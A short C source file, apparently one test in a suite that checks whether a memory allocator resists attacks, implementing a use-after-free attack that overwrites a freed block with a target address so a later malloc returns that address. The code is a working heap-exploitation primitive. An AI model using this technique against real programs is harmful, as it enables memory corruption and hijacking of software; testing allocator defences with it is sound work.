/* A write after free steers malloc: where an allocator's list runs through freed blocks, the attacker writes
   an address there, and a later malloc returns it. */
#include "attack.h"

static bool attempt(void)
{
    enum { SIZE = 48 };
    static char *kept[8];
    for (int i = 0; i < 8; i++)
        kept[i] = malloc(SIZE);
    for (int i = 0; i < 8; i++)
        free(kept[i]);
    uint64_t *freed = hide(kept[7]);
    for (int i = 0; i < SIZE / 8; i++)
        freed[i] = (uint64_t)target;
    return obtains(target, SIZE, 1000);
}
